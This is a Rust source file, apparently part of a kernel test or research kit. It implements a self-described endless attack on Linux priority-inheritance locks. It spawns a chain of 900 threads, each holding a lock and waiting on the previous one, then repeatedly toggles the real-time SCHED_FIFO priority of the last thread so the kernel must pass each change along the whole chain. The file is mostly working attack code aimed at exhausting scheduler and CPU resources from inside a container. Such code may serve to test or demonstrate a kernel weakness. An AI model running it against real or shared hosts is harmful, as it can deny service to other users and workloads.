//! An attack of our own: each of many threads owns a lock and waits for the lock of the thread before it. The priority
//! of the last thread changes all the time. The kernel passes each change on, from owner to owner.

use std::sync::atomic::{AtomicU32, Ordering};
use std::thread;
use std::time::Duration;

use super::pi::{thread_id, Lock};
use crate::kit::process::{set_policy, set_policy_of, spawn};

/// Near the limit of a container's threads, which is 1000.
const LINKS: usize = 900;
/// The priorities of the changing thread and of all waiting threads, and the higher priority that the last thread gets.
const PRIORITIES: (u32, u32, u32) = (98, 10, 97);
const PAUSE: Duration = Duration::from_millis(1);

static LOCKS: [Lock; LINKS] = [const { Lock::free() }; LINKS];
static LAST: AtomicU32 = AtomicU32::new(0);

/// Attacks without end.
pub fn run() -> Result<(), String> {
    for link in 0..LINKS {
        spawn(move || wait(link))?;
    }
    while !LOCKS.iter().rev().skip(1).all(Lock::is_wanted) {
        thread::sleep(PAUSE);
    }
    set_policy(libc::SCHED_FIFO as u32, PRIORITIES.0)?;
    let last = LAST.load(Ordering::SeqCst) as i32;
    loop {
        for priority in [PRIORITIES.2, PRIORITIES.1] {
            set_policy_of(last, libc::SCHED_FIFO as u32, priority)?;
        }
        thread::sleep(PAUSE);
    }
}

/// Takes a lock, and waits for the lock before it. The first thread has no lock to wait for.
fn wait(link: usize) -> Result<(), String> {
    set_policy(libc::SCHED_FIFO as u32, PRIORITIES.1)?;
    LOCKS[link].take()?;
    if link == LINKS - 1 {
        LAST.store(thread_id(), Ordering::SeqCst);
    }
    if let Some(before) = link.checked_sub(1) {
        while !LOCKS[before].is_taken() {
            thread::sleep(PAUSE);
        }
        LOCKS[before].take()?;
    }
    loop {
        thread::park();
    }
}
